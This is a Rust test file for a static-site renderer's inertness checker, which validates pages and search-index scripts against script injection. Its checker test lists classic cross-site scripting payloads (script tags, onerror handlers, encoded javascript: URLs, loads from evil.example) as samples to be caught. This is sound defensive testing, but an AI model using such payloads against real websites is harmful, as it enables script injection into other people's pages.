    "foreignobject",
    "animate",
    "set",
    "use",
    "image",
    "marquee",
    "isindex",
    "listing",
    "noembed",
    "noframes",
    "slot",
    "dialog",
];

/// Attributes that hold a URL.
const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "xlink:href",
    "action",
    "formaction",
    "srcset",
    "poster",
    "data",
    "background",
    "ping",
    "cite",
    "lowsrc",
    "dynsrc",
    "manifest",
    "codebase",
    "longdesc",
    "usemap",
    "icon",
];

/// Every reason the page `html` (at `rel` in the site) is unsafe.
pub fn page_problems(rel: &str, html: &str) -> Vec<String> {
    let mut bad = Vec::new();
    // No control character but tab and newline (raw NUL and ESC reached pages).
    if let Some(c) = html.chars().find(|c| c.is_ascii_control() && !matches!(c, '\t' | '\n')) {
        bad.push(format!("{rel}: control character U+{:04X} in the HTML", u32::from(c)));
    }
    let mut counts: BTreeMap<&str, usize> = BTreeMap::new();
    let own_script = regex::Regex::new(r#"^(\.\./)*assets/(app|view|search)\.js$"#).unwrap();
    let own_style = regex::Regex::new(r#"^(\.\./)*assets/[a-z]+\.css$"#).unwrap();
    let own_icon = regex::Regex::new(r#"^(\.\./)*assets/icon\.svg$"#).unwrap();
    for tag in start_tags(html) {
        let name = tag.name.as_str();
        let attr = |n: &str| tag.attrs.iter().find(|(a, _)| a == n).map(|(_, v)| v.as_str());
        for once in ["html", "head", "body", "title", "main"] {
            if name == once {
                *counts.entry(once).or_default() += 1;
            }
        }
        if FORBIDDEN.contains(&name) {
            bad.push(format!("{rel}: <{name}> element: {}", tag.raw));
        }
        match name {
            "script" => {
                let ok = tag.attrs.len() <= 2
                    && attr("src").is_some_and(|s| own_script.is_match(s))
                    && tag.attrs.iter().all(|(a, _)| a == "src" || a == "defer");
                if !ok {
                    bad.push(format!("{rel}: foreign script: {}", tag.raw));
                }
            }
            "link" => {
                let own = |re: &regex::Regex| attr("href").is_some_and(|h| re.is_match(h));
                let ok = match attr("rel") {
                    Some("stylesheet") => own(&own_style),
                    Some("icon") => own(&own_icon) && attr("type") == Some("image/svg+xml"),
                    _ => false,
                };
                if !ok {
                    bad.push(format!("{rel}: foreign <link>: {}", tag.raw));
                }
            }
            "meta" => {
                let ok = match (attr("http-equiv"), attr("name"), attr("charset")) {
                    (Some(h), None, None) => {
                        h == "Content-Security-Policy"
                            && attr("content").is_some_and(|c| c.contains("script-src 'self'"))
                    }
                    (None, Some(n), None) => ["viewport", "referrer", "generator"].contains(&n),
                    (None, None, Some(c)) => c == "utf-8",
                    _ => false,
                };
                if !ok {
                    bad.push(format!("{rel}: foreign <meta>: {}", tag.raw));
                }
            }
            _ => {}
        }
        for (a, v) in &tag.attrs {
            if a.starts_with("on") {
                bad.push(format!("{rel}: event handler {a}= in {}", tag.raw));
            }
            if a == "style" || a == "srcdoc" || a == "formaction" || a.starts_with("xmlns") {
                bad.push(format!("{rel}: {a}= in {}", tag.raw));
            }
            if a == "http-equiv" && name != "meta" {
                bad.push(format!("{rel}: {a}= in {}", tag.raw));
            }
            if !URL_ATTRS.contains(&a.as_str()) {
                continue;
            }
            let url: String =
                decode_entities(v).chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>();
            let lower = url.to_ascii_lowercase();
            let scheme = lower.split_once(':').map(|(s, _)| s).filter(|s| !s.contains('/'));
            let loads = a != "href" && a != "cite" && a != "longdesc";
            match scheme {
                None | Some("http" | "https" | "mailto") => {}
                Some("data") if a == "src" && name == "img" => {
                    let raster = ["data:image/png", "data:image/gif", "data:image/jpeg", "data:image/webp"];
                    if !raster.iter().any(|p| lower.starts_with(p)) {
                        bad.push(format!("{rel}: {a}={v} in {}", tag.raw));
                    }
                }
                Some(_) => bad.push(format!("{rel}: {a}={v}: scheme not allowed, in {}", tag.raw)),
            }
            if loads && (scheme.is_some_and(|s| s == "http" || s == "https") || lower.starts_with("//")) {
                bad.push(format!("{rel}: {a} loads from elsewhere: {}", tag.raw));
            }
            if lower.starts_with("/\\") || lower.starts_with("\\") {
                bad.push(format!("{rel}: {a}={v} escapes the site"));
            }
        }
    }
    for once in ["html", "head", "body", "title", "main"] {
        let n = counts.get(once).copied().unwrap_or(0);
        if n != 1 {
            bad.push(format!("{rel}: {n} <{once}> elements"));
        }
    }
    if !html.contains("<meta http-equiv=\"Content-Security-Policy\"") {
        bad.push(format!("{rel}: no CSP"));
    }
    bad
}

/// Whether a path of the site taken from the search index is a plain
/// relative path (no scheme, no root, no way up, no backslash).
fn safe_site_path(u: &str) -> bool {
    let first = u.split('/').next().unwrap_or("");
    !(u.is_empty() || u.starts_with('/') || first.contains(':') || u.contains('\\') || u.contains(".."))
}

/// Every reason a file of the search index (`search/…`, a page's
/// `search-N.js`, at `rel`) is unsafe: it must be one assignment of JSON
/// data to `CCTREE_SEARCH[id]`, `id` naming the file, with no `<` or `>`
/// anywhere (nothing can end a script or start markup), and every path it
/// holds a plain relative path of the site.
pub fn search_index_problems(rel: &str, js: &str) -> Vec<String> {
    let mut bad = Vec::new();
    let prefix = "(self.CCTREE_SEARCH=self.CCTREE_SEARCH||{})[";
    let Some((id, body)) = js.strip_prefix(prefix).and_then(|r| r.strip_suffix(";\n")).and_then(|r| r.split_once("]="))
    else {
        return vec![format!("{rel}: not one assignment to CCTREE_SEARCH[id]")];
    };
    if js.contains(['<', '>', '\u{2028}', '\u{2029}']) {
        bad.push(format!("{rel}: holds < or > or a line separator"));
    }
    let want = match rel.strip_prefix("search/") {
        Some("index.js") => "index".to_string(),
        Some(r) => r.trim_end_matches(".js").to_string(),
        None => format!("d/{rel}"),
    };
    if serde_json::from_str::<String>(id).ok().as_deref() != Some(want.as_str()) {
        bad.push(format!("{rel}: assigns to {id}, not {want:?}"));
    }
    let Ok(v) = serde_json::from_str::<Value>(body) else {
        return [bad, vec![format!("{rel}: the value is not JSON")]].concat();
    };
    let mut paths: Vec<&str> = Vec::new();
    if want == "index" {
        paths.extend(v["projects"].as_array().into_iter().flatten().filter_map(|p| p[1].as_str()));
    } else if want.starts_with("u/") {
        for u in v.as_array().into_iter().flatten() {
            paths.extend(u[2].as_str());
            paths.extend(u[3].as_array().into_iter().flatten().filter_map(Value::as_str));
        }
    }
    if want.starts_with("d/") {
        // The whole texts kept deflated: base64 of raw deflate of a JSON
        // array of strings (search.js puts them in the page as text only),
        // one for each doc whose excerpt was cut.
        let cut: Vec<u64> = v["docs"].as_array().into_iter().flatten().filter_map(|d| d[4].as_u64()).collect();
        let z = v.get("z");
        if z.is_some_and(|z| !z.is_string()) {
            bad.push(format!("{rel}: z is not a string"));
        } else if !cut.is_empty() || z.is_some() {
            let n = std::panic::catch_unwind(|| crate::support::doc_file_wholes(js).len()).ok();
            if n.is_none_or(|n| cut.iter().any(|&c| c >= n as u64) || n != cut.len()) {
                bad.push(format!("{rel}: z is not the whole texts of its cut docs ({n:?} texts, {} cut)", cut.len()));
            }
        }
    }
    for p in paths {
        if !safe_site_path(p) {
            bad.push(format!("{rel}: path {p:?}"));
        }
    }
    bad
}

/// Whether `rel` is a page's file of the search index (`…/search-N.js`).
fn is_doc_file(rel: &str) -> bool {
    let name = rel.rsplit('/').next().unwrap_or("");
    rel.contains('/')
        && name.strip_prefix("search-").and_then(|n| n.strip_suffix(".js")).is_some_and(|n| n.parse::<u32>().is_ok())
}

/// Checks every file of the site at `out`: pages, search index, names.
pub fn check_inert(out: &Path) -> Vec<String> {
    let mut bad = Vec::new();
    let mut pages = 0;
    for e in walkdir::WalkDir::new(out).sort_by_file_name().into_iter().filter_map(Result::ok) {
        if !e.file_type().is_file() {
            if e.file_type().is_symlink() {
                bad.push(format!("symlink {}", e.path().display()));
            }
            continue;
        }
        let rel = e.path().strip_prefix(out).unwrap().to_string_lossy().into_owned();
        // cctree's own bookkeeping (incremental rendering): not web content.
        if rel == ".cctree-site"
            || (rel.starts_with(".cctree-cache/") && (rel.ends_with(".json") || rel.ends_with(".bin")))
        {
            continue;
        }
        let ok_name = rel
            .split('/')
            .all(|seg| !seg.starts_with('.') && seg.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)));
        if !ok_name {
            bad.push(format!("unsafe file name {rel:?}"));
        }
        let ext = Path::new(&rel).extension().and_then(|x| x.to_str()).unwrap_or("");
        // SVG only as the site's own icon: an image of a transcript is never one.
        if !["html", "js", "css", "png", "jpg", "jpeg", "gif", "webp"].contains(&ext) && rel != "assets/icon.svg" {
            bad.push(format!("unexpected file type {rel:?}"));
        }
        let text = std::fs::read(e.path()).unwrap();
        match ext {
            "html" => {
                pages += 1;
                let html = String::from_utf8_lossy(&text);
                bad.extend(page_problems(&rel, &html));
            }
            "js" if rel.starts_with("search/") || is_doc_file(&rel) => {
                bad.extend(search_index_problems(&rel, &String::from_utf8_lossy(&text)));
            }
            "js" if !["assets/app.js", "assets/view.js", "assets/search.js", "assets/highlight.js"]
                .contains(&rel.as_str()) =>
            {
                bad.push(format!("unexpected script {rel}"))
            }
            _ => {}
        }
    }
    if pages == 0 {
        bad.push("no pages".into());
    }
    bad
}

/// Fields whose marker is nowhere in the site.
pub fn missing_fields(out: &Path, h: &Hostile) -> (Vec<String>, Vec<String>) {
    let mut all = String::new();
    for e in walkdir::WalkDir::new(out).into_iter().filter_map(Result::ok) {
        if e.file_type().is_file() && e.path().extension().is_some_and(|x| x == "html" || x == "js") {
            all.push_str(&String::from_utf8_lossy(&std::fs::read(e.path()).unwrap()));
        }
    }
    let (mut must, mut may) = (Vec::new(), Vec::new());
    for (f, required) in &h.fields {
        if !all.contains(&marker(f)) {
            if *required { must.push(f.clone()) } else { may.push(f.clone()) }
        }
    }
    (must, may)
}

/// Every path under `dir`.
fn listing(dir: &Path) -> BTreeSet<PathBuf> {
    walkdir::WalkDir::new(dir).into_iter().filter_map(Result::ok).map(|e| e.path().to_path_buf()).collect()
}

#[test]
fn hostile_payloads_in_every_field_render_inert() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("site");
    let h = write_hostile_archive(tmp.path());
    let before = listing(tmp.path());
    let o = cctree().args(["-q", "render"]).arg(&h.projects).arg("-o").arg(&out).output().unwrap();
    assert!(o.status.success(), "render failed: {}", String::from_utf8_lossy(&o.stderr));
    let after = listing(tmp.path());
    let outside: Vec<_> = after.difference(&before).filter(|p| !p.starts_with(&out)).collect();
    assert!(outside.is_empty(), "written outside the output: {outside:?}");

    let bad = check_inert(&out);
    assert!(bad.is_empty(), "{} problems:\n{}", bad.len(), bad.join("\n"));

    let (must, may) = missing_fields(&out, &h);
    if !may.is_empty() {
        eprintln!("fields not shown on any page (allowed): {}", may.join(", "));
    }
    assert!(must.is_empty(), "payloads that never reached a page (the suite would prove nothing): {must:?}");
}

#[test]
fn the_inertness_check_catches_what_it_should() {
    // The checker itself: each of these must be refused.
    let page = |body: &str| {
        format!(
            "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'self'\">\
             <title>t</title><script src=\"../assets/app.js\" defer></script></head><body><main>{body}</main></body></html>"
        )
    };
    assert_eq!(
        page_problems("ok.html", &page("<p class=\"x\">&lt;script&gt;</p><a href=\"https://a.example/\">a</a>")),
        Vec::<String>::new()
    );
    for body in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnError='alert(1)'>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<img src=\"http://evil.example/x.png\">",
        "<img src=\"//evil.example/x.png\">",
        "<iframe srcdoc=x></iframe>",
        "<base href=\"http://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0\">",
        "<style>x{}</style>",
        "<div style=\"color:red\">",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<script src=\"http://evil.example/app.js\"></script>",
        "</title><title>two",
        "<body>",
        "raw \u{1b}[31m escape",
        "raw \u{0} nul",
    ] {
        assert!(!page_problems("bad.html", &page(body)).is_empty(), "not caught: {body}");
    }
    let unit =
        |key: &str| format!("(self.CCTREE_SEARCH=self.CCTREE_SEARCH||{{}})[\"u/0\"]=[[\"t\",\"p\",\"{key}\",[]]];\n");
    assert!(search_index_problems("search/u/0.js", &unit("p/c/x/")).is_empty());
    assert!(!search_index_problems("search/u/0.js", &unit("javascript:alert(1)//")).is_empty());
    assert!(!search_index_problems("search/u/1.js", &unit("p/c/x/")).is_empty(), "named for another file");
    let doc = "(self.CCTREE_SEARCH=self.CCTREE_SEARCH||{})[\"d/p/search-1.js\"]={\"docs\":[[\"m-1\",\"You\",1,\"</script>\"]]};\n";
    assert!(!search_index_problems("p/search-1.js", doc).is_empty());
    assert!(search_index_problems("p/search-1.js", &doc.replace("</script>", "\\u003c/script\\u003e")).is_empty());
    assert!(!search_index_problems("search/index.js", "window.CCTREE_SEARCH = [];\n").is_empty());
}

/// `Html` (text escaped for element content: quotes left as they are)
/// is written by templates only where an element's content goes: a
/// `{{ …|html }}` inside a tag would let a quote end an attribute.
#[test]
fn templates_write_html_in_no_attribute() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
    let mut checked = 0;
    for e in walkdir::WalkDir::new(&dir).into_iter().filter_map(Result::ok).filter(|e| e.file_type().is_file()) {
        let t = std::fs::read_to_string(e.path()).unwrap();
        // Outside tags: the text between a `>` and the next `<`, or
        // before the first tag; `{{`/`{%` hold no `<` or `>` here.
        let mut in_tag = false;
        let mut at = 0;
        let b = t.as_bytes();
        while at < b.len() {
            match b[at] {
                b'<' if !t[at..].starts_with("<=") => in_tag = true,
                b'>' if in_tag => in_tag = false,
                b'{' if in_tag && t[at..].starts_with("{{") => {
                    let end = t[at..].find("}}").map_or(t.len(), |e| at + e);
                    assert!(!t[at..end].contains("|html"), "{}: {}", e.path().display(), &t[at..end]);
                }
                _ => {}
            }
            at += 1;
        }
        checked += 1;
    }
    assert!(checked > 20, "{checked}");
}
